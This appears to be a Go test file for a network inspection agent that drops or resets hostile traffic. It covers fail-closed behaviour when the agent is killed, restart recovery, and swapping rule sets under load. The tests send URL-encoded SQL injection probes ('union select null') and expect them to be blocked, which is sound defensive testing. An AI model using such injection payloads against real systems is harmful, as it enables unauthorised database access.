// sizeServer serves TLS on the server's port 443: each line "N\n" a
// client sends is answered with pseudoBytes(N, N). The default pack has no
// payload rule, so such a flow is bypassed after its hellos.
func sizeServer(tb testing.TB, topo *testnet.Topology) netip.AddrPort {
	tb.Helper()
	cert := selfSigned(tb)
	addr := netip.AddrPortFrom(testnet.ServerIP, 443)
	ln := testnet.Listen(tb, topo.Server, "tcp", addr)
	go testnet.Serve(ln, func(c net.Conn) {
		tc := tls.Server(c, &tls.Config{Certificates: []tls.Certificate{cert}})
		r := bufio.NewReader(tc)
		for {
			line, err := r.ReadString('\n')
			if err != nil {
				return
			}
			var n int
			fmt.Sscanf(line, "%d", &n)
			if _, err := tc.Write(pseudoBytes(n, uint64(n))); err != nil {
				return
			}
		}
	})
	return addr
}

// sizeConn is a client connection to sizeServer.
type sizeConn struct {
	*tls.Conn
	port uint16 // the client's
}

func dialSizeServer(tb testing.TB, topo *testnet.Topology, server netip.AddrPort) *sizeConn {
	tb.Helper()
	raw := testnet.Dial(tb, topo.Client, "tcp", server)
	return &sizeConn{Conn: tls.Client(raw, &tls.Config{InsecureSkipVerify: true}),
		port: uint16(raw.LocalAddr().(*net.TCPAddr).Port)}
}

// fetch asks for n bytes and checks them, within timeout.
func (c *sizeConn) fetch(n int, timeout time.Duration) error {
	c.SetDeadline(time.Now().Add(timeout))
	fmt.Fprintf(c, "%d\n", n)
	got := make([]byte, n)
	if _, err := io.ReadFull(c, got); err != nil {
		return fmt.Errorf("read %d bytes over TLS: %w", n, err)
	}
	if sum(got) != sum(pseudoBytes(n, uint64(n))) {
		return errors.New("TLS data corrupted")
	}
	return nil
}

func selfSigned(tb testing.TB) tls.Certificate {
	tb.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), crand.Reader)
	if err != nil {
		tb.Fatal(err)
	}
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "server.test"},
		DNSNames: []string{"server.test"}, NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour)}
	der, err := x509.CreateCertificate(crand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		tb.Fatal(err)
	}
	return tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key}
}

// TestPrivilegedAgentKilled: a killed fail-closed agent leaves its ports
// dropping uninspected traffic; the next agent takes the pinned program
// over and inspects again.
func TestPrivilegedAgentKilled(t *testing.T) { forModes(t, testAgentKilled) }

func testAgentKilled(t *testing.T, m agentMode) {
	topo := m.topology(t)
	server := testServer(t, topo)
	dir := t.TempDir()
	a := startAgent(t, topo, dir, "--fail-closed")
	if res := rawRequest(t, topo, server, get("/alive")); res.status != 200 {
		t.Fatalf("before: %+v", res)
	}
	a.Kill(t)
	// A new connection gets nowhere: its SYN is dropped in XDP.
	err := topo.Client.Do(func() error {
		c, err := net.DialTimeout("tcp", server.String(), 1500*time.Millisecond)
		if err == nil {
			c.Close()
		}
		return err
	})
	if err == nil {
		t.Fatalf("a fail-closed port let a connection through with no agent")
	}
	b := startAgent(t, topo, dir, "--fail-closed")
	t.Cleanup(func() { b.stop(t) })
	if res := rawRequest(t, topo, server, get("/alive-again")); res.status != 200 {
		t.Fatalf("after restart: %+v", res)
	}
	if res := rawRequest(t, topo, server, get("/x?id=1%20union%20select%20null")); !res.reset {
		t.Fatalf("attack after restart: %+v", res)
	}
}

// TestPrivilegedAgentReloadUnderLoad: while rule sets are swapped again
// and again, benign keep-alive traffic never fails or changes, and an
// attack never gets through.
func TestPrivilegedAgentReloadUnderLoad(t *testing.T) { forModes(t, testAgentReloadUnderLoad) }

func testAgentReloadUnderLoad(t *testing.T, m agentMode) {
	topo := m.topology(t)
	server := testServer(t, topo)
	dir := t.TempDir()
	a := startAgent(t, topo, dir)
	t.Cleanup(func() { a.stop(t) })

	stop := make(chan struct{})
	type result struct {
		ok, bad int
		err     error
	}
	benign := make(chan result, 3)
	for w := range 3 {
		go func() {
			var r result
			c := testnet.HTTPClient(topo.Client, true)
			for i := 0; ; i++ {
				select {
				case <-stop:
					benign <- r
					return
				default:
				}
				n := 1000 + (i*7919+w*104729)%60000
				resp, err := c.Get(fmt.Sprintf("http://%s/bytes?n=%d&seed=%d", server, n, i))
				if err != nil {
					r.bad, r.err = r.bad+1, err
					continue
				}
				body, err := io.ReadAll(resp.Body)
				resp.Body.Close()
				if err != nil || resp.StatusCode != 200 || sum(body) != sum(pseudoBytes(n, uint64(i))) {
					r.bad, r.err = r.bad+1, fmt.Errorf("status %d, %d bytes, %v", resp.StatusCode, len(body), err)
					continue
				}
				r.ok++
			}
		}()
	}
	attacks := make(chan result, 1)
	go func() {
		var r result
		for {
			select {
			case <-stop:
				attacks <- r
				return
			case <-time.After(20 * time.Millisecond):
			}
			res := rawRequest(t, topo, server, get("/item?id=1%20union%20all%20select%20null"))
			if res.reset {
				r.ok++
			} else {
				r.bad, r.err = r.bad+1, fmt.Errorf("%+v: %v", res, res.err)
			}
		}
	}()
	extra := agent.WriteFile(t, dir, "extra.yaml", "rules:\n  - {id: 8000, action: block, match: {field: http.path, regex: '^/never-used'}}\n  - {id: 8001, action: block, proto: tcp, dst_port: 9}\n")
	for range 4 {
		if code, out, errs := a.cli(t, "rules", "add", extra); code != 0 {
			t.Fatalf("add: %s %s", out, errs)
		}
		for _, id := range []string{"8000", "8001"} {
			if code, out, errs := a.cli(t, "rules", "delete", id); code != 0 {
				t.Fatalf("delete: %s %s", out, errs)
			}
		}
	}
	close(stop)
	for range 3 {
		r := <-benign
		if r.bad != 0 || r.ok == 0 {
			t.Errorf("benign client: %d ok, %d failed (%v)", r.ok, r.bad, r.err)
		}
	}
	if r := <-attacks; r.bad != 0 || r.ok == 0 {
		t.Errorf("attacker: %d blocked, %d not (%v)", r.ok, r.bad, r.err)
	}
	if st := a.status(t); st.RuleSet.Version != 13 {
		t.Errorf("version %d after 12 changes, want 13", st.RuleSet.Version)
	}
}
